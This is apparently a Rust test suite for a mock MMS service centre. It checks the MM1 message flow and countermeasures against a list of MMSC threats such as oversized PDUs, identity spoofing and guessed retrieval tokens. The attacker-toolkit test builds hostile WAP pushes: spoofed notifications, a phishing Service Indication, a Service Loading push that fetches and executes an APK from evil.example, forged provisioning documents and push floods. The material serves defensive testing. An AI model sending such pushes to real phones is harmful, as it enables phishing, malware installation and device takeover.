//! The mock MMSC's own tests: the full MM1 flow between two simulated subscribers using only
//! its own encoder and real HTTP/UDP on loopback, one test per MMSC-* threat showing the
//! countermeasure with real requests, the admin API and the attacker toolkit.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing)]

use mms_codec::pdu::builder::{SendReqBuilder, notify_resp, read_rec};
use mms_codec::pdu::{MessageType, Pdu, ReadStatus, ResponseStatus, Status, TimeValue};
use mms_codec::push::{PushKind, decode_push};
use mock_mmsc::{FRONT_HEADER, MockConfig, MockMmsc, SUBSCRIBER_HEADER, attacker};
use std::net::SocketAddr;
use std::time::Duration;
use tokio::net::UdpSocket;

const MMS: &str = "application/vnd.wap.mms-message";
const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x10\0\0\0\x10\x08\x02\0\0\0";

fn client(proxy: Option<SocketAddr>) -> reqwest::Client {
    let _ = rustls::crypto::ring::default_provider().install_default();
    let mut b = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .no_proxy();
    if let Some(p) = proxy {
        b = b.proxy(reqwest::Proxy::http(format!("http://{p}")).unwrap());
    }
    b.build().unwrap()
}

/// A simulated handset: a number and the UDP socket its WAP pushes arrive on.
struct Phone {
    number: &'static str,
    udp: UdpSocket,
}

impl Phone {
    async fn new(mmsc: &MockMmsc, number: &'static str) -> Phone {
        let udp = UdpSocket::bind("127.0.0.1:0").await.unwrap();
        mmsc.register(number, Some(udp.local_addr().unwrap()));
        Phone { number, udp }
    }

    /// The next pushed MMS PDU, which must arrive within five seconds.
    async fn notified(&self) -> Pdu<'static> {
        self.push(Duration::from_secs(5))
            .await
            .expect("a push within five seconds")
    }

    /// The next pushed MMS PDU, or `None` when nothing arrives within `wait`.
    async fn push(&self, wait: Duration) -> Option<Pdu<'static>> {
        let mut buf = vec![0u8; 65_536];
        let (n, _) = tokio::time::timeout(wait, self.udp.recv_from(&mut buf))
            .await
            .ok()?
            .ok()?;
        let push = decode_push(&buf[..n]).unwrap();
        assert_eq!(push.kind(), PushKind::Mms);
        Some(Pdu::decode(push.body).unwrap().pdu.into_owned())
    }
}

struct Reply {
    status: u16,
    retry_after: Option<String>,
    body: Vec<u8>,
}

impl Reply {
    fn pdu(&self) -> Pdu<'_> {
        Pdu::decode(&self.body).unwrap().pdu
    }
}

async fn post(c: &reqwest::Client, url: &str, who: Option<&str>, body: Vec<u8>) -> Reply {
    let mut r = c.post(url).header("content-type", MMS).body(body);
    if let Some(w) = who {
        r = r.header(SUBSCRIBER_HEADER, w);
    }
    reply(r.send().await.unwrap()).await
}

async fn get(c: &reqwest::Client, url: &str, who: &str) -> Reply {
    reply(
        c.get(url)
            .header(SUBSCRIBER_HEADER, who)
            .send()
            .await
            .unwrap(),
    )
    .await
}

async fn reply(r: reqwest::Response) -> Reply {
    Reply {
        status: r.status().as_u16(),
        retry_after: r
            .headers()
            .get("retry-after")
            .map(|v| v.to_str().unwrap().to_string()),
        body: r.bytes().await.unwrap().to_vec(),
    }
}

fn send_req(tid: &str, to: &str) -> SendReqBuilder<'static> {
    SendReqBuilder::new(tid).to(to).subject("hello").part(
        "text/plain",
        "t.txt",
        b"Hello there".to_vec(),
    )
}

/// Alice (+15550001) and Bob (+15550002), registered with `mmsc`.
async fn alice_and_bob(mmsc: &MockMmsc) -> (Phone, Phone) {
    (
        Phone::new(mmsc, "+15550001").await,
        Phone::new(mmsc, "+15550002").await,
    )
}

/// POSTs `pdu` to the MMSC as the subscriber `who` (the identity header the gateway adds).
async fn submit(c: &reqwest::Client, mmsc: &MockMmsc, who: &str, pdu: &Pdu<'_>) -> Reply {
    post(c, &mmsc.url(), Some(who), pdu.encode().unwrap()).await
}

async fn start(cfg: MockConfig) -> (MockMmsc, reqwest::Client) {
    (MockMmsc::start(cfg).await.unwrap(), client(None))
}

fn location(n: &Pdu<'_>) -> String {
    n.content_location().unwrap().to_string()
}

#[tokio::test]
async fn full_mm1_flow_between_two_subscribers() {
    let (mmsc, c) = start(MockConfig::default()).await;
    let (alice, bob) = alice_and_bob(&mmsc).await;
    let req = send_req("T-1", bob.number)
        .delivery_report(true)
        .read_report(true)
        .build();
    let conf = submit(&c, &mmsc, alice.number, &req).await;
    assert_eq!(conf.status, 200);
    let conf = conf.pdu();
    assert_eq!(conf.message_type, MessageType::SendConf);
    assert_eq!(conf.response_status(), Some(ResponseStatus::Ok));
    assert_eq!(conf.transaction_id().unwrap().to_string(), "T-1");
    let message_id = conf.message_id().unwrap().to_string();

    let notif = bob.notified().await;
    assert_eq!(notif.message_type, MessageType::NotificationInd);
    let loc = location(&notif);
    assert!(loc.starts_with(&mmsc.url()), "{loc}");
    let retrieved = get(&c, &loc, bob.number).await;
    assert_eq!(retrieved.status, 200);
    let rc = retrieved.pdu();
    assert_eq!(rc.message_type, MessageType::RetrieveConf);
    assert_eq!(rc.message_id().unwrap().to_string(), message_id);
    assert!(format!("{:?}", rc.from().unwrap()).contains("15550001"));
    assert_eq!(rc.parts()[0].raw_data(), b"Hello there");

    let ntid = notif.transaction_id().unwrap().to_string();
    let ack = notify_resp(&ntid, Status::Retrieved, Some(true));
    assert_eq!(submit(&c, &mmsc, bob.number, &ack).await.status, 204);
    let dr = alice.notified().await;
    assert_eq!(dr.message_type, MessageType::DeliveryInd);
    assert_eq!(dr.message_id().unwrap().to_string(), message_id);
    assert_eq!(dr.status(), Some(Status::Retrieved));

    let rr = read_rec(&message_id, alice.number, ReadStatus::Read, Some(1));
    assert_eq!(submit(&c, &mmsc, bob.number, &rr).await.status, 204);
    let ro = alice.notified().await;
    assert_eq!(ro.message_type, MessageType::ReadOrigInd);
    assert_eq!(ro.read_status(), Some(ReadStatus::Read));

    let cdrs = mmsc.cdrs();
    assert_eq!(
        cdrs.iter().map(|c| c.event.as_str()).collect::<Vec<_>>(),
        ["submitted", "retrieved"]
    );
    assert_eq!(mmsc.open_transactions(), 0);
}

#[tokio::test]
async fn mmsc_1_oversized_and_corrupt_submissions_are_refused() {
    let (mmsc, c) = start(MockConfig {
        max_body: 64 * 1024,
        max_message_size: 8 * 1024,
        ..Default::default()
    })
    .await;
    let alice = Phone::new(&mmsc, "+15550001").await;
    // A body over the HTTP limit never reaches the decoder.
    let huge = post(&c, &mmsc.url(), Some(alice.number), vec![0x8c; 100 * 1024]).await;
    assert_eq!(huge.status, 413);
    // A well-formed message over the message size limit gets a proper M-Send.conf error.
    let big = send_req("T-big", "+15550002")
        .part("image/png", "x.png", [PNG, &[0u8; 10_000][..]].concat())
        .build();
    let r = submit(&c, &mmsc, alice.number, &big).await;
    assert_eq!(r.status, 200);
    assert_eq!(
        r.pdu().response_status(),
        Some(ResponseStatus::PermanentContentNotAccepted)
    );
    assert_eq!(r.pdu().transaction_id().unwrap().to_string(), "T-big");
    // Corrupt PDUs: a typed refusal, nothing stored.
    for garbage in [
        vec![0x8c, 0x80, 0x98],
        vec![0xff; 40],
        b"GET / HTTP/1.1".to_vec(),
    ] {
        let r = post(&c, &mmsc.url(), Some(alice.number), garbage).await;
        assert_eq!(r.status, 400);
        assert_eq!(
            r.pdu().response_status(),
            Some(ResponseStatus::PermanentMessageFormatCorrupt)
        );
    }
    assert_eq!(mmsc.message_count(), 0);
    assert_eq!(mmsc.log_of("message_too_large").len(), 1);
    assert_eq!(mmsc.log_of("corrupt_pdu").len(), 3);
}

#[tokio::test]
async fn mmsc_2_submissions_are_rate_limited_per_subscriber_and_per_ip() {
    let (mmsc, c) = start(MockConfig {
        rate_burst: 3,
        rate_per_minute: 1,
        ..Default::default()
    })
    .await;
    let (alice, bob) = alice_and_bob(&mmsc).await;
    for i in 0..3 {
        let req = send_req(&format!("T-{i}"), bob.number).build();
        let r = submit(&c, &mmsc, alice.number, &req).await;
        assert_eq!(r.status, 200, "submission {i}");
    }
    let req = send_req("T-3", bob.number).build();
    let r = submit(&c, &mmsc, alice.number, &req).await;
    assert_eq!(r.status, 429);
    let wait: u64 = r.retry_after.unwrap().parse().unwrap();
    assert!((1..=60).contains(&wait), "{wait}");
    // Another subscriber has its own budget.
    let req = send_req("T-b", alice.number).build();
    let r = submit(&c, &mmsc, bob.number, &req).await;
    assert_eq!(r.status, 200);
    assert_eq!(mmsc.message_count(), 4);
    assert_eq!(mmsc.log_of("rate_limited").len(), 1);

    // Per IP: every request from one address counts, whoever it claims to be.
    let (mmsc, c) = start(MockConfig {
        ip_rate_burst: 2,
        ip_rate_per_minute: 1,
        ..Default::default()
    })
    .await;
    let statuses = futures_util::future::join_all((0..4).map(|i| {
        let (c, url) = (c.clone(), mmsc.url());
        async move {
            let req = send_req(&format!("T-{i}"), "+15550002").build();
            post(&c, &url, Some("+15550009"), req.encode().unwrap())
                .await
                .status
        }
    }))
    .await;
    assert_eq!(statuses.iter().filter(|s| **s == 429).count(), 2);
}

#[tokio::test]
async fn mmsc_3_unanswered_transactions_time_out_and_are_cleaned_up() {
    let (mmsc, c) = start(MockConfig {
        ack_timeout: Duration::from_millis(300),
        sweep: Duration::from_millis(25),
        ..Default::default()
    })
    .await;
    let (alice, bob) = alice_and_bob(&mmsc).await;
    let req = send_req("T-1", bob.number).build();
    submit(&c, &mmsc, alice.number, &req).await;
    let notif = bob.notified().await;
    assert_eq!(mmsc.open_transactions(), 1);
    tokio::time::sleep(Duration::from_millis(800)).await;
    assert_eq!(mmsc.open_transactions(), 0);
    assert_eq!(mmsc.log_of("transaction_timeout").len(), 1);
    // The location died with the transaction, and a late NotifyResp is refused.
    assert_eq!(get(&c, &location(&notif), bob.number).await.status, 404);
    let late = notify_resp(
        &notif.transaction_id().unwrap().to_string(),
        Status::Retrieved,
        None,
    );
    let r = submit(&c, &mmsc, bob.number, &late).await;
    assert_eq!(r.status, 400);
}

#[tokio::test]
async fn mmsc_3_notifications_are_repeated_until_a_notify_resp_arrives() {
    let (mmsc, c) = start(MockConfig {
        renotify: Some(Duration::from_millis(100)),
        max_renotify: 10,
        sweep: Duration::from_millis(20),
        ..Default::default()
    })
    .await;
    let (alice, bob) = alice_and_bob(&mmsc).await;
    let req = send_req("T-1", bob.number).build();
    submit(&c, &mmsc, alice.number, &req).await;
    let first = bob.notified().await;
    let again = bob.notified().await;
    assert_eq!(first.encode().unwrap(), again.encode().unwrap());
    let tid = first.transaction_id().unwrap().to_string();
    let deferred = notify_resp(&tid, Status::Deferred, None);
    assert_eq!(
        post(
            &c,
            &mmsc.url(),
            Some(bob.number),
            deferred.encode().unwrap()
        )
        .await
        .status,
        204
    );
    // Drain anything already in flight, then silence.
    while bob.push(Duration::from_millis(150)).await.is_some() {}
    assert!(bob.push(Duration::from_millis(400)).await.is_none());
    assert!(!mmsc.log_of("renotified").is_empty());
    // Deferred is not closed: the message can still be fetched.
    assert_eq!(get(&c, &location(&first), bob.number).await.status, 200);
}

#[tokio::test]
async fn mmsc_4_transaction_ids_must_be_ones_issued_to_that_subscriber() {
    let (mmsc, c) = start(MockConfig::default()).await;
    let (alice, bob) = alice_and_bob(&mmsc).await;
    let carol = Phone::new(&mmsc, "+15550003").await;
    let req = send_req("T-1", bob.number).build();
    submit(&c, &mmsc, alice.number, &req).await;
    let tid = bob.notified().await.transaction_id().unwrap().to_string();
    for (who, t) in [(bob.number, "made-up"), (carol.number, tid.as_str())] {
        let ack = notify_resp(t, Status::Retrieved, None);
        let r = submit(&c, &mmsc, who, &ack).await;
        assert_eq!(r.status, 400, "{who} {t}");
    }
    assert_eq!(mmsc.log_of("tid_mismatch").len(), 2);
    assert_eq!(mmsc.open_transactions(), 1);
    let ack = notify_resp(&tid, Status::Retrieved, None);
    let r = submit(&c, &mmsc, bob.number, &ack).await;
    assert_eq!(r.status, 204);
    assert_eq!(mmsc.open_transactions(), 0);
}

#[tokio::test]
async fn mmsc_5_expiry_and_delivery_time_are_clamped() {
    let (mmsc, c) = start(MockConfig {
        max_expiry: Duration::from_secs(7 * 86_400),
        sweep: Duration::from_millis(20),
        ..Default::default()
    })
    .await;
    let (alice, bob) = alice_and_bob(&mmsc).await;
    // Ten years is clamped to the maximum.
    let req = send_req("T-1", bob.number)
        .expiry(TimeValue::Relative(10 * 365 * 86_400))
        .build();
    submit(&c, &mmsc, alice.number, &req).await;
    let n = bob.notified().await;
    assert_eq!(n.expiry(), Some(TimeValue::Relative(7 * 86_400)));
    assert_eq!(mmsc.log_of("expiry_clamped").len(), 1);
    // An expiry in the past is not honoured as "already expired": the default applies.
    let req = send_req("T-2", bob.number)
        .expiry(TimeValue::Absolute(1_000_000))
        .build();
    submit(&c, &mmsc, alice.number, &req).await;
    let n = bob.notified().await;
    assert_eq!(n.expiry(), Some(TimeValue::Relative(3 * 86_400)));
    // A delivery time in the past means now; a near one is honoured by the sweeper.
    let mut past = send_req("T-3", bob.number).build();
    past.headers
        .push(mms_codec::pdu::Header::DeliveryTime(TimeValue::Absolute(5)));
    submit(&c, &mmsc, alice.number, &past).await;
    assert!(bob.push(Duration::from_secs(5)).await.is_some());
    assert_eq!(mmsc.log_of("delivery_time_clamped").len(), 1);
    let mut later = send_req("T-4", bob.number).build();
    later
        .headers
        .push(mms_codec::pdu::Header::DeliveryTime(TimeValue::Relative(1)));
    submit(&c, &mmsc, alice.number, &later).await;
    assert!(bob.push(Duration::from_millis(500)).await.is_none());
    assert!(bob.push(Duration::from_secs(5)).await.is_some());
    assert_eq!(mmsc.log_of("notification_scheduled").len(), 1);
    // A delivery time beyond the expiry is pulled in before it.
    let mut beyond = send_req("T-5", bob.number)
        .expiry(TimeValue::Relative(3600))
        .build();
    beyond
        .headers
        .push(mms_codec::pdu::Header::DeliveryTime(TimeValue::Relative(
            7200,
        )));
    post(
        &c,
        &mmsc.url(),
        Some(alice.number),
        beyond.encode().unwrap(),
    )
    .await;
    let last = mmsc.log_of("delivery_time_clamped");
    assert_eq!(last.len(), 2);
    assert!(last[1].detail.ends_with("-> 3540s (MMSC-5)"), "{last:?}");
}

#[tokio::test]
async fn mmsc_6_declared_part_types_are_checked_in_the_cdr() {
    let (mmsc, c) = start(MockConfig::default()).await;
    let alice = Phone::new(&mmsc, "+15550001").await;
    let honest = send_req("T-1", "+15550002")
        .part("image/png", "a.png", PNG.to_vec())
        .build();
    let lying = send_req("T-2", "+15550002")
        .part("image/jpeg", "b.jpg", PNG.to_vec())
        .build();
    for req in [honest, lying] {
        let r = submit(&c, &mmsc, alice.number, &req).await;
        assert_eq!(r.pdu().response_status(), Some(ResponseStatus::Ok));
    }
    let cdrs = mmsc.cdrs();
    assert_eq!(cdrs.len(), 2);
    assert!(!cdrs[0].type_mismatch, "{:?}", cdrs[0]);
    assert!(cdrs[1].type_mismatch);
    assert!(
        cdrs[1]
            .parts
            .contains(&("image/jpeg".to_string(), "image/png".to_string()))
    );
    assert_eq!(mmsc.log_of("cdr_type_mismatch").len(), 1);
}

#[tokio::test]
async fn mmsc_7_read_reports_only_from_recipients_once_to_the_stored_originator() {
    let (mmsc, c) = start(MockConfig::default()).await;
    let (alice, bob) = alice_and_bob(&mmsc).await;
    let mallory = Phone::new(&mmsc, "+15550666").await;
    let asked = send_req("T-1", bob.number).read_report(true).build();
    let not_asked = send_req("T-2", bob.number).build();
    let mut ids = Vec::new();
    for req in [asked, not_asked] {
        let r = submit(&c, &mmsc, alice.number, &req).await;
        ids.push(r.pdu().message_id().unwrap().to_string());
    }
    let rr = |id: &str, to: &str| read_rec(id, to, ReadStatus::Read, None).encode().unwrap();
    // Not a recipient; unknown message; no report asked for; oversized.
    assert_eq!(
        post(
            &c,
            &mmsc.url(),
            Some(mallory.number),
            rr(&ids[0], alice.number)
        )
        .await
        .status,
        400
    );
    assert_eq!(
        post(
            &c,
            &mmsc.url(),
            Some(bob.number),
            rr("M-nope", alice.number)
        )
        .await
        .status,
        400
    );
    assert_eq!(
        post(&c, &mmsc.url(), Some(bob.number), rr(&ids[1], alice.number))
            .await
            .status,
        400
    );
    let mut big = read_rec(&ids[0], alice.number, ReadStatus::Read, None);
    big.headers.push(mms_codec::pdu::Header::Subject(
        mms_codec::pdu::builder::encoded_text(&"x".repeat(4000)),
    ));
    assert_eq!(submit(&c, &mmsc, bob.number, &big).await.status, 413);
    // A real one naming Mallory in its To still goes to Alice, the stored originator.
    assert_eq!(
        post(
            &c,
            &mmsc.url(),
            Some(bob.number),
            rr(&ids[0], mallory.number)
        )
        .await
        .status,
        204
    );
    // Drain Bob's notifications; Alice gets the report, Mallory nothing.
    let ro = alice.notified().await;
    assert_eq!(ro.message_type, MessageType::ReadOrigInd);
    assert!(mallory.push(Duration::from_millis(300)).await.is_none());
    // Once.
    assert_eq!(
        post(&c, &mmsc.url(), Some(bob.number), rr(&ids[0], alice.number))
            .await
            .status,
        400
    );
    assert_eq!(mmsc.log_of("read_report_refused").len(), 5);
    assert_eq!(mmsc.log_of("read_report_forwarded").len(), 1);
}

#[tokio::test]
async fn mmsc_8_identity_comes_only_from_the_proxy_front() {
    // Unknown subscribers are refused outright.
    let (mmsc, c) = start(MockConfig::default()).await;
    let req = send_req("T-1", "+15550002").build();
    let r = post(&c, &mmsc.url(), Some("+15559999"), req.encode().unwrap()).await;
    assert_eq!(r.status, 403);
    let r = post(&c, &mmsc.url(), None, req.encode().unwrap()).await;
    assert_eq!(r.status, 403);
    assert_eq!(mmsc.log_of("unknown_subscriber").len(), 2);

    // With identity_only_via_front, a client that sets the header itself is refused, even with
    // a made-up front header; through the front it is accepted.
    let (mmsc, c) = start(MockConfig {
        proxy_front: true,
        identity_only_via_front: true,
        ..Default::default()
    })
    .await;
    mmsc.register("+15550001", None);
    let direct = post(&c, &mmsc.url(), Some("+15550001"), req.encode().unwrap()).await;
    assert_eq!(direct.status, 403);
    let forged = c
        .post(mmsc.url())
        .header(SUBSCRIBER_HEADER, "+15550001")
        .header(FRONT_HEADER, "guess")
        .body(req.encode().unwrap())
        .send()
        .await
        .unwrap();
    assert_eq!(forged.status().as_u16(), 403);
    assert_eq!(mmsc.log_of("identity_not_via_front").len(), 2);
    let via = client(mmsc.proxy_addr());
    for i in 0..3 {
        // Each request through the front is vouched for, not only a connection's first.
        let req = send_req(&format!("T-{i}"), "+15550002").build();
        let r = post(&via, &mmsc.url(), Some("+15550001"), req.encode().unwrap()).await;
        assert_eq!(r.status, 200, "request {i}");
        assert_eq!(r.pdu().response_status(), Some(ResponseStatus::Ok));
    }
}

#[tokio::test]
async fn mmsc_9_locations_are_single_recipient_tokens_on_the_mmsc_host() {
    let (mmsc, c) = start(MockConfig::default()).await;
    let (alice, bob) = alice_and_bob(&mmsc).await;
    let carol = Phone::new(&mmsc, "+15550003").await;
    let req = SendReqBuilder::new("T-1")
        .to(bob.number)
        .to(carol.number)
        .part("text/plain", "t.txt", b"hi".to_vec())
        .build();
    submit(&c, &mmsc, alice.number, &req).await;
    let nb = location(&bob.notified().await);
    let nc = location(&carol.notified().await);
    assert_ne!(nb, nc);
    for l in [&nb, &nc] {
        assert!(l.starts_with(&format!("{}/m/", mmsc.url())), "{l}");
        assert!(l.len() > mmsc.url().len() + 3 + 20, "token too short: {l}");
    }
    // Carol cannot use Bob's token, nor Alice; a guessed token finds nothing.
    assert_eq!(get(&c, &nb, carol.number).await.status, 404);
    assert_eq!(get(&c, &nb, alice.number).await.status, 404);
    let guessed = format!("{}/m/000000000000000000000000", mmsc.url());
    assert_eq!(get(&c, &guessed, bob.number).await.status, 404);
    assert_eq!(mmsc.log_of("retrieve_wrong_recipient").len(), 2);
    assert_eq!(get(&c, &nb, bob.number).await.status, 200);
}

#[tokio::test]
async fn admin_api_registers_subscribers_queues_faults_and_exposes_logs() {
    let (mmsc, c) = start(MockConfig::default()).await;
    let admin = |p: &str| format!("http://{}/_admin/{p}", mmsc.addr());
    let udp = UdpSocket::bind("127.0.0.1:0").await.unwrap();
    let r = c
        .post(admin("subscribers"))
        .header("content-type", "application/json")
        .body(
            serde_json::to_vec(
                &serde_json::json!({"msisdn": "+15550001", "push": udp.local_addr().unwrap()}),
            )
            .unwrap(),
        )
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 204);
    let r = c
        .post(admin("faults"))
        .header("content-type", "application/json")
        .body(
            serde_json::to_vec(&serde_json::json!({"on": "post", "fault": {"Http": [503, 7]}}))
                .unwrap(),
        )
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 204);
    let req = send_req("T-1", "+15550001").build();
    let r = post(&c, &mmsc.url(), Some("+15550001"), req.encode().unwrap()).await;
    assert_eq!((r.status, r.retry_after.as_deref()), (503, Some("7")));
    let r = post(&c, &mmsc.url(), Some("+15550001"), req.encode().unwrap()).await;
    assert_eq!(r.status, 200);
    let log: Vec<serde_json::Value> = c
        .get(admin("log"))
        .send()
        .await
        .unwrap()
        .bytes()
        .await
        .map(|b| serde_json::from_slice(&b).unwrap())
        .unwrap();
    let events: Vec<&str> = log.iter().map(|e| e["event"].as_str().unwrap()).collect();
    assert!(events.contains(&"subscriber_registered"));
    assert!(events.contains(&"fault_http"));
    assert!(events.contains(&"send_accepted"));
    let cdrs: Vec<serde_json::Value> = c
        .get(admin("cdrs"))
        .send()
        .await
        .unwrap()
        .bytes()
        .await
        .map(|b| serde_json::from_slice(&b).unwrap())
        .unwrap();
    assert_eq!(cdrs.len(), 1);
    assert_eq!(cdrs[0]["event"], "submitted");
    // The registered push address works: the notification (to self) arrived.
    let mut buf = [0u8; 2048];
    let n = tokio::time::timeout(Duration::from_secs(5), udp.recv(&mut buf))
        .await
        .unwrap()
        .unwrap();
    assert_eq!(decode_push(&buf[..n]).unwrap().kind(), PushKind::Mms);
}

#[tokio::test]
async fn attacker_toolkit_builds_what_the_client_parses() {
    use mms_codec::provisioning::parse_xml;
    use mms_decisions::provisioning::{Credentials, SecMethod, Secret, verify};
    let n = attacker::spoofed_notification("x1", "http://evil.example/a", Some("+1"), 10);
    let p = decode_push(&n).unwrap();
    let pdu = Pdu::decode(p.body).unwrap().pdu;
    assert_eq!(location(&pdu), "http://evil.example/a");

    let si = attacker::si_push("http://evil.example/", "Click", attacker::SiAction::High);
    let p = decode_push(&si).unwrap();
    assert_eq!(p.kind(), PushKind::ServiceIndication);
    let parsed = mms_codec::push::service::parse_si(p.body).unwrap();
    assert_eq!(parsed.href.as_deref(), Some("http://evil.example/"));
    assert_eq!(
        (parsed.text.as_str(), parsed.action.as_str()),
        ("Click", "signal-high")
    );

    let sl = attacker::sl_push("http://evil.example/x.apk", true);
    let p = decode_push(&sl).unwrap();
    assert_eq!(p.kind(), PushKind::ServiceLoading);
    let parsed = mms_codec::push::service::parse_sl(p.body).unwrap();
    assert_eq!(
        (parsed.href.as_str(), parsed.action.as_str()),
        ("http://evil.example/x.apk", "execute-high")
    );

    let doc = parse_xml(
        r#"<wap-provisioningdoc><characteristic type="BOOTSTRAP"><parm name="NAME" value="x"/></characteristic></wap-provisioningdoc>"#,
    )
    .unwrap();
    let creds = Credentials {
        imsi: None,
        pin: Some(Secret::new("1234")),
    };
    let signed = attacker::provisioning_push(
        &doc,
        &attacker::ProvisioningAuth::Signed(SecMethod::Userpin, creds.clone()),
    );
    let forged = attacker::provisioning_push(
        &doc,
        &attacker::ProvisioningAuth::Forged(SecMethod::Userpin, "00".repeat(20)),
    );
    let bare = attacker::provisioning_push(&doc, &attacker::ProvisioningAuth::None);
    let check = |bytes: &[u8]| {
        let p = decode_push(bytes).unwrap();
        assert_eq!(p.kind(), PushKind::Provisioning);
        let sec = match p
            .content_type
            .param(mms_codec::pdu::content_type::param::SEC)
        {
            Some(mms_codec::pdu::ParamValue::Integer(s)) => Some(*s),
            _ => None,
        };
        let mac = p
            .content_type
            .param(mms_codec::pdu::content_type::param::MAC)
            .and_then(|m| match m {
                mms_codec::pdu::ParamValue::Text(t) => Some(t.to_string()),
                _ => None,
            });
        verify(sec, mac.as_deref(), p.body, &creds).is_ok()
    };
    assert!(check(&signed));
    assert!(!check(&forged));
    assert!(!check(&bare));

    // Over SMS: segments that the client's reassembly puts back together.
    let big = attacker::spoofed_notification(
        "x2",
        &format!("http://e.example/{}", "a".repeat(300)),
        None,
        1,
    );
    let tpdus = attacker::as_sms("+15550000", &big, 7);
    assert!(tpdus.len() > 1);
    let mut r = mms_codec::push::Reassembler::new(Default::default());
    let mut whole = None;
    for t in &tpdus {
        let seg = mms_codec::push::parse_deliver(t, true).unwrap();
        if let mms_codec::push::Reassembly::Complete { datagram, .. } = r.push(seg, 0) {
            whole = Some(datagram);
        }
    }
    assert_eq!(whole.unwrap(), big);
    assert_eq!(attacker::flood(50, "http://x/").len(), 50);
}

#[tokio::test]
async fn forward_without_retrieval_only_by_a_notified_recipient() {
    let (mmsc, c) = start(MockConfig::default()).await;
    let (alice, bob) = alice_and_bob(&mmsc).await;
    let carol = Phone::new(&mmsc, "+15550003").await;
    let req = send_req("T-1", bob.number).build();
    submit(&c, &mmsc, alice.number, &req).await;
    let loc = location(&bob.notified().await);
    // Carol cannot forward Bob's message.
    let stolen = mms_codec::pdu::builder::forward_req("F-0", &[alice.number], &loc);
    let r = post(
        &c,
        &mmsc.url(),
        Some(carol.number),
        stolen.encode().unwrap(),
    )
    .await;
    assert_eq!(r.pdu().message_type, MessageType::ForwardConf);
    assert_eq!(
        r.pdu().response_status(),
        Some(ResponseStatus::PermanentMessageNotFound)
    );
    // Bob forwards it to Carol without downloading it.
    let fwd = mms_codec::pdu::builder::forward_req("F-1", &[carol.number], &loc);
    let r = submit(&c, &mmsc, bob.number, &fwd).await;
    let conf = r.pdu();
    assert_eq!(conf.message_type, MessageType::ForwardConf);
    assert_eq!(conf.response_status(), Some(ResponseStatus::Ok));
    assert_eq!(conf.transaction_id().unwrap().to_string(), "F-1");
    let new_id = conf.message_id().unwrap().to_string();
    let n = carol.notified().await;
    let rc = get(&c, &location(&n), carol.number).await;
    let rc = rc.pdu();
    assert_eq!(rc.message_id().unwrap().to_string(), new_id);
    assert!(format!("{:?}", rc.from().unwrap()).contains("15550002"));
    assert_eq!(rc.parts()[0].raw_data(), b"Hello there");
    // Only Carol's retrieval happened: Bob never downloaded it.
    assert_eq!(mmsc.log_of("retrieved").len(), 1);
    assert_eq!(mmsc.log_of("forward_refused").len(), 1);
}

#[tokio::test]
async fn the_decision_log_and_charging_records_stay_bounded() {
    let (mmsc, c) = start(MockConfig {
        log_capacity: 4,
        ..Default::default()
    })
    .await;
    let (alice, bob) = alice_and_bob(&mmsc).await;
    let mut ids = Vec::new();
    for i in 0..6 {
        let r = submit(
            &c,
            &mmsc,
            alice.number,
            &send_req(&format!("T-{i}"), bob.number).build(),
        )
        .await;
        ids.push(r.pdu().message_id().unwrap().to_string());
    }
    // Six submissions log at least twelve decisions; only the newest four are kept, in order.
    let log = mmsc.log();
    assert_eq!(log.len(), 4);
    assert!(log.iter().any(|e| e.detail.contains(&ids[5])), "{log:?}");
    assert!(log.iter().all(|e| !e.detail.contains(&ids[0])), "{log:?}");
    let cdrs = mmsc.cdrs();
    let kept: Vec<&str> = cdrs.iter().map(|c| c.message_id.as_str()).collect();
    assert_eq!(
        kept,
        ids[2..].iter().map(String::as_str).collect::<Vec<_>>()
    );
}

#[tokio::test]
async fn recipients_see_the_sender_s_full_number() {
    // Subscribers are keyed by their last nine digits; what others see is the number itself.
    let (mmsc, c) = start(MockConfig::default()).await;
    let alice = Phone::new(&mmsc, "+447700900123").await;
    let bob = Phone::new(&mmsc, "+447700900456").await;
    submit(
        &c,
        &mmsc,
        alice.number,
        &send_req("T-1", bob.number).build(),
    )
    .await;
    let notif = bob.notified().await;
    let shown = |p: &Pdu<'_>| match p.from() {
        Some(mms_codec::pdu::FromValue::Address(a)) => a.to_string_lossy().into_owned(),
        other => format!("{other:?}"),
    };
    assert_eq!(shown(&notif), "+447700900123/TYPE=PLMN");
    let retrieved = get(&c, &location(&notif), bob.number).await;
    assert_eq!(shown(&retrieved.pdu()), "+447700900123/TYPE=PLMN");
}
